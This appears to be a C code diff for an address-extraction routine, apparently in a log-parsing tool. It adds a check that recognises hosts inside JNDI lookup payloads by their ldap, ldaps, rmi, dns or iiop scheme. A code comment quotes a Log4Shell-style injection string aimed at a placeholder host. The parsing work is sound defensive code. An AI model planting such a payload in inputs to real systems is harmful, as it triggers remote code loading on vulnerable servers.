@@ -65,6 +65,20 @@ after_product_slash (const char *start, const char *p, const char *after, const 
     return token == start || token[-1] != '/';
 }
 
+/* "${jndi:ldap://203.0.113.1/a}": where an attack's payload would have its victim call, which is
+ * neither end of the connection. */
+static gboolean
+in_payload (const char *start, const char *p)
+{
+    static const char *const schemes[] = { "ldap://", "ldaps://", "rmi://", "dns://", "iiop://" };
+    const Span before = { start, p };
+
+    for (gsize i = 0; i < G_N_ELEMENTS (schemes); i++)
+        if (span_ends_nocase (before, schemes[i]))
+            return TRUE;
+    return FALSE;
+}
+
 gboolean
 address_may_begin (const char *start, const char *p)
 {
@@ -81,7 +95,7 @@ address_may_begin (const char *start, const char *p)
     if (p[-1] == '-' || p[-1] == '_')
         return p - start < 2 || !g_ascii_isalpha (p[-2]) ||
                word_in (word_before (start, p - 1), place_words, G_N_ELEMENTS (place_words));
-    return !char_in (p[-1], "+$");
+    return !char_in (p[-1], "+$") && !(p[-1] == '/' && in_payload (start, p));
 }
 
 /* A host name goes on: "198.51.100.7-static.example.net". */
